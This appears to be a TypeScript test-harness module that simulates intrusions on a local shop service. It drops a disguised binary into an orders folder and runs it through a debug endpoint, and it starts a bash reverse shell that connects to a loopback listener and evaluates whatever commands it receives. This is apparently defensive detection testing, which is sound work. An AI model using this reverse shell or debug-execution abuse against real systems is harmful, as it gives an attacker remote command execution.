import { chmod, copyFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { Cleanup } from './cleanup.ts';
import { type Shop, visit } from './shop.ts';
import { type Stage, shopDir } from './stage.ts';

const attackLastsMs = 60_000;

/** A program that is not part of the software appears in its directory and is run through the debug endpoint. */
export async function runDroppedBinary(stage: Stage, shop: Shop): Promise<void> {
  const dropped = join(shopDir(stage), 'orders', 'invoice.bin');
  await copyFile('/bin/sleep', dropped);
  await chmod(dropped, 0o755);
  // Not awaited: the answer comes when the program ends, and it will be held.
  void visit(shop.port, `/debug/run?${query(dropped, ['60'])}`, { timeoutMs: attackLastsMs });
}

/** A shell that calls home, to a listener of ours on loopback, and waits for what it is told to do. */
export async function runShell(cleanup: Cleanup, shop: Shop): Promise<void> {
  const server = createServer((socket) => {
    // It is killed, not closed: its end of the connection may be reset.
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanup.add('listener', () => void server.close());
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const script = `exec 3<>/dev/tcp/127.0.0.1/${port}; while read -r order <&3; do eval "$order"; done`;
  void visit(shop.port, `/debug/run?${query('/bin/bash', ['-c', script])}`, { timeoutMs: attackLastsMs });
}

function query(file: string, args: readonly string[]): string {
  const search = new URLSearchParams({ file });
  for (const arg of args) search.append('arg', arg);
  return search.toString();
}
